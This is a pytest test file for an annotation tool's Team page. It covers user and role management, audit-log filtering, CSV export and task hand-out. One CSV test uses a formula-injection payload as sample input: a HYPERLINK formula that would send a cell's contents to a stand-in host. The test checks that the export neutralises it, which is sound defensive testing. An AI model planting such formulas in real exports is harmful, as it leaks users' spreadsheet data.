"""The Team page, headless: single-user mode creates the first lead (and never shows the
password); a lead adds users and changes them through al_core.team.accounts, each change
in the audit log; al_core's refusals are shown as messages; a non-lead sees only the
refusal; the audit log is filtered and paged, and its CSV cannot run as a formula."""
import csv
import io
from datetime import date, datetime, timedelta, timezone

import pytest

import ui.chrome
import ui.state
from al_core.store import Store
from al_core.team import accounts
from al_core.team.passwords import verify_password
from al_core.types import AuditEntry
from tests.apptest import open_page, read
from ui.team_audit import PAGE_ROWS, audit_csv, csv_cell, day_bounds

LEAD_PW = "correct horse battery"
ANN_PW = "annotator's secret 1"


@pytest.fixture
def project(store, monkeypatch):
    """An empty project the app serves, with the Team page in the navigation (until the
    sign-in work registers it)."""
    monkeypatch.setenv("ALS_PROJECT", str(store.root))
    if not any(p[0] == "pages/team.py" for p in ui.chrome.PAGES):
        monkeypatch.setattr(ui.chrome, "PAGES", [*ui.chrome.PAGES, (
            "pages/team.py", "Team", ":material/group:", "team")])
    return store


def acting(monkeypatch, store, name):
    """``name`` is the signed-in user (None: nobody). AppTest cannot send the session
    cookie, so the one place that reads it is replaced: ui.auth's ``_identify`` (the
    frame's visitor and the pages' stores both ask it); without ui.auth, the page's store
    (ui.state.store) acts as ``name``."""
    try:
        import ui.auth as auth
    except ImportError:
        auth = None
    if hasattr(auth, "_identify"):
        def identify(s):
            user = s.user(name) if name else None
            return (user, "password", "") if user else (None, "", "no session")
        monkeypatch.setattr(auth, "_identify", identify)
    else:
        monkeypatch.setattr(ui.state, "store", lambda: Store(store.root).act_as(name))


def team_page():
    at = open_page("pages/team.py")
    assert not at.exception, at.exception
    return at


def fill(at, form, **values):
    """Type into a form's fields (``name``, ``password``, ``again``, ``email``, ``role``,
    ``user``) and press its submit button."""
    for field, value in values.items():
        widget = at.text_input(key=f"{form}_{field}") if field not in ("role", "user") \
            else at.selectbox(key=f"{form}_{field}")
        widget.set_value(value)
    at.button(key=f"{form}_submit").click().run()
    assert not at.exception, at.exception
    return at


def texts(at) -> str:
    """Everything the page rendered (every element's protobuf, widget values included)
    and its session state, as one text."""
    parts = []

    def walk(node):
        proto = getattr(node, "proto", None)
        if proto is not None:
            parts.append(str(proto))
        for child in getattr(node, "children", {}).values():
            walk(child)

    walk(at._tree)
    parts += [repr(v) for v in at.session_state.to_dict().values()]
    return "\n".join(parts)


def messages(at, kind):
    return [read(e.value) for e in getattr(at, kind)]


def asks_to_sign_in(at) -> bool:
    """The page (or, with sign-in in the frame, the frame's sign-in screen) asks the
    visitor to sign in."""
    shown = [e.value for kind in ("title", "markdown", "warning", "info") for e in
             getattr(at, kind)]
    return any("sign in" in read(v).lower() for v in shown)


def nothing_of_the_page(at) -> bool:
    """No users, forms, audit rows or download on the page."""
    return not (at.dataframe or at.text_input or at.tabs or at.get("download_button"))


def with_lead(store):
    accounts.add_user(store, "Lea", LEAD_PW, "lead")
    return store.act_as("Lea")


def test_single_user_mode_creates_the_first_lead_and_never_shows_the_password(project,
                                                                              monkeypatch):
    acting(monkeypatch, project, None)
    at = team_page()
    said = " ".join(read(m.value) for m in at.markdown)
    assert "no users" in said and "annotator, reviewer or lead" in said
    assert "After this everyone must sign in" in said and "/auth/signin" in said
    assert "| `manage_users` | no | no | yes |" in said  # the permission table
    fill(at, "team_first_lead", name="Lea", password=LEAD_PW, again=LEAD_PW,
         email="lea@example.org")
    assert project.team_mode()
    lea = project.user("Lea")
    assert (lea.role, lea.email) == ("lead", "lea@example.org")
    assert project.password_hash(lea.id).startswith("$argon2id$")
    assert LEAD_PW not in texts(at)  # the form is gone, its fields with it
    add = project.audit_entries(action="user.add")[0]
    assert add.actor == "Lea" and "team mode on" in add.summary
    assert asks_to_sign_in(at)  # nobody is signed in yet
    # and the sign-in screen it lands on says why: team mode is now on
    assert any("Team mode is on" in read(m.value) for m in at.success)


def test_the_first_user_with_mismatched_passwords_is_refused(project, monkeypatch):
    acting(monkeypatch, project, None)
    at = fill(team_page(), "team_first_lead", name="Lea", password=LEAD_PW,
              again=LEAD_PW + "x")
    assert messages(at, "error") == ["Team mode is still off: the two passwords differ: "
                                      "type the same password twice."]
    assert not project.team_mode()
    assert at.session_state["team_first_lead_password"] == ""
    assert LEAD_PW not in texts(at)


def test_a_lead_adds_an_annotator_changes_a_role_and_sees_the_audit_log(project,
                                                                       monkeypatch):
    with_lead(project)
    acting(monkeypatch, project, "Lea")
    at = team_page()
    assert at.dataframe[0].value["name"].tolist() == ["Lea"]
    fill(at, "team_add_user", name="Ann", role="annotator", password=ANN_PW, again=ANN_PW)
    assert messages(at, "success") == ["Added Ann as an annotator."]
    assert project.user("Ann").role == "annotator"
    users = at.dataframe[0].value
    assert users["name"].tolist() == ["Lea", "Ann"]
    assert users.columns.tolist() == ["name", "role", "e-mail", "enabled", "open sessions",
                                      "created"]
    assert ANN_PW not in texts(at)

    fill(at, "team_role", user="Ann", role="reviewer")
    assert messages(at, "success") == ["Ann is now a reviewer (was an annotator); their "
                                       "open sessions have ended."]
    assert project.user("Ann").role == "reviewer"
    log = at.dataframe[1].value
    assert log["action"].tolist() == ["user.role", "user.add", "user.add"]  # newest first
    assert log["actor"].tolist()[:2] == ["Lea", "Lea"]
    assert log["summary"][0] == "Ann: annotator -> reviewer"
    csv_button = at.get("download_button")[0]
    assert "3 rows" in csv_button.proto.label


def test_al_core_refusals_show_as_messages(project, monkeypatch):
    with_lead(project)
    accounts.add_user(project, "Ann", ANN_PW, "annotator")
    acting(monkeypatch, project, "Lea")
    at = fill(team_page(), "team_role", user="Lea", role="annotator")  # the last lead
    assert messages(at, "error") == ["Role not changed: Lea is the last lead: make another "
                                     "user a lead first."]
    fill(at, "team_add_user", name="Ann", password=ANN_PW, again=ANN_PW)
    assert messages(at, "error") == ["Not added: a user named 'Ann' already exists."]
    fill(at, "team_add_user", name="Bob", password="short", again="short")
    assert messages(at, "error") == ["Not added: the password is too short: at least 8 "
                                     "characters."]
    fill(at, "team_password", user="Ann", password=ANN_PW + "2", again=ANN_PW + "3")
    assert messages(at, "error") == ["Password not reset: the two passwords differ: type "
                                     "the same password twice."]
    assert project.user("Bob") is None
    at.selectbox(key="team_disable_user").set_value("Ann")
    at.button(key="team_disable_submit").click().run()
    assert messages(at, "success") == ["Disabled Ann: they cannot sign in, and their open "
                                       "sessions have ended."]
    assert project.user("Ann").disabled
    fill(at, "team_email", user="Ann", email="not an address")
    assert messages(at, "error") == ["E-mail not set: 'not an address' is not an e-mail "
                                     "address."]
    fill(at, "team_email", user="Ann", email="ann@example.org")
    assert messages(at, "success") == ["E-mail of Ann set to ann@example.org."]
    at.selectbox(key="team_disable_user").set_value("Ann")
    at.button(key="team_enable_submit").click().run()
    assert messages(at, "success") == ["Enabled Ann: they can sign in again."]
    fill(at, "team_password", user="Ann", password=ANN_PW + "2", again=ANN_PW + "2")
    assert messages(at, "success") == ["New password set for Ann; their open sessions "
                                       "have ended."]
    ann = project.user("Ann")
    assert (ann.email, ann.disabled) == ("ann@example.org", False)
    assert verify_password(project.password_hash(ann.id), ANN_PW + "2")
    assert ANN_PW not in texts(at)
    assert [e.action for e in project.audit_entries(limit=4)] == [
        "user.password", "user.enable", "user.email", "user.disable"]


def test_a_non_lead_sees_only_the_refusal(project, monkeypatch):
    """The navigation may hide the page from an annotator; the page's own answer is
    al_core's refusal, whatever the navigation lists."""
    with_lead(project)
    accounts.add_user(project, "Ann", ANN_PW, "annotator")
    acting(monkeypatch, project, "Ann")
    if hasattr(ui.chrome, "visible_pages"):
        monkeypatch.setattr(ui.chrome, "visible_pages", lambda role: list(ui.chrome.PAGES))
    at = team_page()
    assert messages(at, "warning") == [
        "Users, roles and the audit log are a lead's: ask a lead of this project. (Ann is "
        "an annotator: only a lead may manage users (add users, change roles, disable "
        "users, reset passwords))"]
    assert nothing_of_the_page(at)


def test_nobody_signed_in_in_team_mode_sees_nothing_of_the_page(project, monkeypatch):
    with_lead(project)
    acting(monkeypatch, project, None)
    at = team_page()
    assert asks_to_sign_in(at) and nothing_of_the_page(at)


def test_the_audit_log_is_filtered_and_paged(project, monkeypatch):
    with_lead(project)
    with project.write():
        for k in range(PAGE_ROWS + 30):
            project.audit("label.save", object_type="item", object_id=k,
                          summary=f"saved {k}", actor="Ann" if k % 2 else "Lea")
    acting(monkeypatch, project, "Lea")
    at = team_page()
    assert any(c.value == f"Rows 1–{PAGE_ROWS} of {PAGE_ROWS + 31}, newest first."
               for c in at.caption)
    assert len(at.dataframe[1].value) == PAGE_ROWS
    at.selectbox(key=next(s.key for s in at.selectbox if s.label.startswith("Page"))) \
        .set_value(2).run()
    assert len(at.dataframe[1].value) == 31
    assert at.dataframe[1].value["summary"].iloc[-1] == "added Lea as lead (team mode on)"
    next(s for s in at.selectbox if s.label == "Actor").set_value("Ann").run()
    assert any(c.value == f"Rows 1–65 of 65, newest first." for c in at.caption)
    assert set(at.dataframe[1].value["actor"]) == {"Ann"}
    next(s for s in at.selectbox if s.label == "Action").set_value("user.add").run()
    assert any(c.value == "No audit rows match." for c in at.caption)
    assert at.get("download_button")[0].proto.disabled
    next(s for s in at.selectbox if s.label == "Actor").set_value("anyone").run()
    days = at.date_input[0]
    today = date.today()
    days.set_value((today - timedelta(days=3), today - timedelta(days=1))).run()
    assert any(c.value == "No audit rows match." for c in at.caption)
    days.set_value((today - timedelta(days=1), today)).run()
    assert any(c.value == "Rows 1–1 of 1, newest first." for c in at.caption)  # user.add


def test_day_bounds_are_local_days_in_utc():
    start = datetime(2026, 3, 1).astimezone()  # local midnight
    assert day_bounds(()) == (None, None)
    assert day_bounds((date(2026, 3, 1),)) == (
        start.astimezone(timezone.utc).isoformat(timespec="seconds"), None)
    since, until = day_bounds((date(2026, 3, 1), date(2026, 3, 2)))
    assert datetime.fromisoformat(since) == start
    assert datetime.fromisoformat(until) == datetime(2026, 3, 3).astimezone()
    assert since.endswith("+00:00") and until.endswith("+00:00")  # as the log stores times


def test_the_csv_prefixes_formula_cells_with_a_quote():
    assert [csv_cell(v) for v in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "a=b",
                                  "", None, 7)] == \
        ["'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "'\rx", "a=b", "", "", "7"]
    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
    rows = [AuditEntry(2, "2026-12-07T10:00:00+00:00", "@lea", "user.add", "user", "-3",
                       evil, None, '{"name": "+x"}'),
            AuditEntry(1, "2026-12-07T09:00:00+00:00", "Lea", "user.add", "user", "1",
                       "added Lea, \"the lead\"\nsecond line", None, None)]
    data = audit_csv(rows)
    assert data.startswith(b"\xef\xbb\xbf")  # a BOM: spreadsheets read UTF-8
    table = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert table[0] == ["id", "at", "actor", "action", "object_type", "object_id",
                        "summary", "before", "after"]
    assert table[1] == ["2", "2026-12-07T10:00:00+00:00", "'@lea", "user.add", "user",
                        "'-3", "'" + evil, "", '{"name": "+x"}']
    assert table[2][6] == "added Lea, \"the lead\"\nsecond line"  # quoted, whole
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
               for row in table for cell in row)


# -- the Work tab (a lead's: workflow settings, tasks, gold images) --------------------

@pytest.fixture
def work_project(demo_store, monkeypatch):
    """The tiny demo with 6 labeled images split and a random selection ``batch`` of 10;
    Lea (lead), Ann and Bo (annotators), Lea signed in."""
    from al_core.query.round import QuerySpec, run_query
    from al_core.simulation.demo import label_from_oracle_at_random
    from al_core.training.split import split_project

    label_from_oracle_at_random(demo_store, 6, seed=1)
    split_project(demo_store, seed=1)
    run_query(demo_store, QuerySpec(strategy="random", add=10, random_control=0,
                                    tag="batch"))
    monkeypatch.setenv("ALS_PROJECT", str(demo_store.root))
    with_lead(demo_store)
    accounts.add_user(demo_store, "Ann", ANN_PW, "annotator")
    accounts.add_user(demo_store, "Bo", ANN_PW + "b", "annotator")
    acting(monkeypatch, demo_store, "Lea")
    return demo_store


def work_tab():
    at = team_page()
    at.session_state["team_section"] = "Work"
    at.run()
    assert not at.exception, at.exception
    return at


def submit(at, key):
    at.button(key=key).click().run()
    assert not at.exception, at.exception
    return at


def subheaders(at) -> list[str]:
    return [h.value for h in at.subheader]


def test_the_work_tab_is_a_leads_and_runs_only_when_open(work_project):
    at = team_page()
    sections = ["Users", "Work", "Audit log"]
    assert [t.label for t in at.tabs if t.label in sections] == sections
    assert "Workflow settings" not in subheaders(at)  # not drawn while closed
    assert at.dataframe[1].value.columns[0] == "at (local time)"  # the audit log
    at.session_state["team_section"] = "Work"
    at.run()
    assert {"Workflow settings", "Hand out work", "Gold images"} <= set(subheaders(at))


def test_a_lead_saves_the_workflow_settings(work_project):
    at = work_tab()
    assert at.number_input(key="team_workflow_share").value == 100
    at.number_input(key="team_workflow_share").set_value(25)
    at.number_input(key="team_workflow_cap").set_value(5)
    at.selectbox(key="team_workflow_skip").set_value("me")
    at.checkbox(key="team_workflow_approved").uncheck()
    submit(at, "team_workflow_submit")
    assert messages(at, "success") == [
        "Saved: review share 25%; cap 5; a skipped image goes back to the same annotator; "
        "only approved labels train: no."]
    s = work_project.workflow_settings()
    assert (s.review_share, s.cap, s.skip_to, s.gold_rate, s.approved_only) == (
        0.25, 5, "me", 0.1, False)
    (entry,) = work_project.audit_entries(action="workflow.settings")
    assert entry.actor == "Lea"
    submit(at, "team_workflow_submit")  # nothing changed since
    assert messages(at, "info") == ["Nothing changed: the settings are as they were."]
    assert len(work_project.audit_entries(action="workflow.settings")) == 1


def test_a_lead_hands_out_a_selection_round_robin_and_takes_a_task_back(work_project):
    ranked = [i.item_id for i in work_project.selection("batch").items]
    at = work_tab()
    assert "All 10 of its images are queued." in [c.value for c in at.caption]
    at.multiselect(key="team_assign_annotators").set_value(["Ann", "Bo"])
    at.number_input(key="team_assign_size").set_value(3)
    submit(at, "team_assign_submit")
    assert messages(at, "success") == [
        "Handed out 10 images of batch: task 1 to Ann (3), task 2 to Bo (3), task 3 to "
        "Ann (3), task 4 to Bo (1)."]
    assert "0 of its 10 images are queued (nobody holds or was given them); 10 " \
        "assigned." in [c.value for c in at.caption]
    assert [work_project.work(i)["annotator"] for i in ranked] == ["Ann"] * 3 + \
        ["Bo"] * 3 + ["Ann"] * 3 + ["Bo"]
    tables = {df.value.columns[0]: df.value for df in at.dataframe}
    assert tables["task"]["task"].tolist() == [4, 3, 2, 1]  # newest first
    assert tables["task"]["not opened yet"].tolist() == [1, 3, 3, 3]
    load = tables["user"].set_index("user")
    assert (load.loc["Ann", "assigned"], load.loc["Bo", "assigned"]) == (6, 4)
    assert load.loc["Ann", "held (cap 20)"] == 6
    at.selectbox(key="team_unassign_task").set_value(3)
    submit(at, "team_unassign_submit")
    assert messages(at, "success") == ["Task 3: 3 unopened images are back in the pool."]
    assert [work_project.work_state(i) for i in ranked[6:9]] == ["queued"] * 3
    # by hand: those three to Bo; an image that is not queued is refused beside the button
    at.multiselect(key="team_assign_annotators").set_value(["Bo"])
    at.radio(key="team_assign_how").set_value("by hand")
    at.text_input(key="team_assign_ids").set_value(f"{ranked[0]}, {ranked[6]}")
    submit(at, "team_assign_submit")
    assert messages(at, "error") == [
        f"Nothing was handed out: image #{ranked[0]} is not a queued image of this "
        "selection (it is assigned or held, or in another selection); nothing was "
        "assigned"]
    assert work_project.work_state(ranked[6]) == "queued"
    at.text_input(key="team_assign_ids").set_value(f"#{ranked[6]} {ranked[7]}-{ranked[7]}")
    submit(at, "team_assign_submit")
    assert messages(at, "success") == [
        "Handed out 2 images of batch: task 5 to Bo (2)."]
    assert work_project.work(ranked[7])["annotator"] == "Bo"
    at.text_input(key="team_assign_ids").set_value("seven")
    submit(at, "team_assign_submit")
    assert messages(at, "error") == ["Nothing was handed out: 'seven' is not an image id "
                                     "or a range like 30-35"]


def test_a_hand_out_says_it_takes_every_queued_image_and_who_is_past_the_cap(
        work_project):
    """A lead who typed a task size of 3 for two annotators handed out all 14 images of a
    batch, one annotator left holding 8 against a cap of 5, and nothing said either: the
    form says round-robin takes every queued image, the result names who is past the
    cap, and the tasks table tells a task taken back from one opened."""
    work_project.set_workflow_settings(cap=4)
    at = work_tab()
    assert any(c == "all 10 queued images, in rank order, a task each in turn"
               for r in at.radio for c in r.proto.captions)
    at.multiselect(key="team_assign_annotators").set_value(["Ann", "Bo"])
    at.number_input(key="team_assign_size").set_value(3)
    submit(at, "team_assign_submit")
    (said,) = messages(at, "success")
    assert said.startswith("Handed out 10 images of batch: task 1 to Ann (3),")
    assert said.endswith("Over the cap of 4 now: Ann holds 6 (the cap stops pulls from "
                         "the pool, not tasks; Back to the pool takes a task's unopened "
                         "images back).")
    at.selectbox(key="team_unassign_task").set_value(3)
    submit(at, "team_unassign_submit")
    tasks = next(df.value for df in at.dataframe if df.value.columns[0] == "task")
    assert tasks["not opened yet"].tolist() == [1, 0, 3, 3]
    assert tasks["back in the pool"].tolist() == [0, 3, 0, 0]  # task 3, taken back


def test_a_lead_marks_and_unmarks_gold_images(work_project):
    train = work_project.items(split="train", status="labeled")[0].id
    test = work_project.items(split="test", status="labeled")[0].id
    at = work_tab()
    assert "No gold images yet." in [c.value for c in at.caption]
    at.text_input(key="team_gold_ids").set_value(str(test))
    submit(at, "team_gold_mark")
    assert messages(at, "error") == [
        f"Not marked: image #{test} is in the frozen test split: gold images are shown to "
        "annotators, test images never are; nothing was marked"]
    assert work_project.gold_ids() == set()
    at.text_input(key="team_gold_ids").set_value(f"{train}")
    submit(at, "team_gold_mark")
    assert messages(at, "success") == ["Marked 1 gold image."]
    assert work_project.gold_ids() == {train}
    gold = next(df.value for df in at.dataframe if df.value.columns[0] == "image")
    assert gold["image"].tolist() == [train]
    assert (gold["served"].tolist(), gold["answered"].tolist()) == ([0], [0])
    at.text_input(key="team_gold_ids").set_value(f"{train} 99999")
    submit(at, "team_gold_unmark")
    assert messages(at, "success") == ["Unmarked 1 gold image (1 were not gold)."]
    assert work_project.gold_ids() == set()
    assert [e.action for e in work_project.audit_entries(limit=2)] == ["gold.unmark",
                                                                      "gold.mark"]


def test_a_gold_image_the_batch_model_never_predicted_is_said_and_predicted(
        work_project, monkeypatch):
    """Marked after the query, a gold image has no pre-labels from the batch's model, and
    al_core never serves it without them: the lead saw it listed, served 0 times, and no
    reason. The tab says so and predicts it with that model (a job)."""
    from al_core.jobs import runner

    gold = work_project.items(split="train", status="labeled")[0].id
    sel = work_project.selection("batch")
    model = work_project.add_model(name="picker", arch="external", status="external")
    with work_project.write():
        work_project.db.execute("UPDATE selections SET model_id = ? WHERE id = ?",
                                [model, sel.id])
        work_project.db.execute("INSERT INTO embeddings (model_id, item_id, vector) "
                                "VALUES (?, ?, ?)", [model, sel.items[0].item_id, b""])
    work_project.set_gold([gold])
    started = []
    def start_job(store, kind, params):  # queued, as the runner leaves it
        started.append((kind, params))
        with store.write():
            return store.add_job(kind, params)
    monkeypatch.setattr(runner, "start_job", start_job)
    at = work_tab()
    assert [read(w.value) for w in at.warning] == [
        f"Gold image #{gold} is never served in batch: a gold image is served only with "
        f"the pre-labels of the model that made its batch (model #{model}), so that it "
        "looks like the images around it, and it was marked after that query."]
    submit(at, f"team_gold_predict_{model}")
    assert started == [("predict", {"model_id": model, "item_ids": [gold]})]
    (job,) = work_project.jobs(status="queued")
    assert messages(at, "success") == [
        f"Predicting 1 gold image with model #{model} (job {job['id']}): once it ends, it "
        "is served in batch."]
    assert not at.warning and not [b for b in at.button if b.key.startswith("team_gold_p")]
    with work_project.write():  # the job ran: the warning goes
        work_project.db.execute("UPDATE jobs SET status = 'succeeded'")
        work_project.db.execute("INSERT INTO embeddings (model_id, item_id, vector) "
                                "VALUES (?, ?, ?)", [model, gold, b""])
    at.run()
    assert not at.warning


def test_image_ids_are_typed_with_commas_spaces_and_ranges():
    from ui.team_work import parse_ids
    assert parse_ids("12, 15 30-32;#7 12") == [12, 15, 30, 31, 32, 7]
    for bad, says in (("", "at least one"), ("5-3", "backwards"), ("x1", "'x1'"),
                      ("1-20000", "more than")):
        with pytest.raises(ValueError, match=says):
            parse_ids(bad)


def test_a_reviewer_has_no_work_tab(work_project, monkeypatch):
    accounts.add_user(work_project, "Rita", ANN_PW + "r", "reviewer")
    acting(monkeypatch, work_project, "Rita")
    at = work_tab()
    assert messages(at, "warning")[0].startswith("Users, roles and the audit log are a "
                                                 "lead's")
    assert nothing_of_the_page(at) and "Workflow settings" not in subheaders(at)
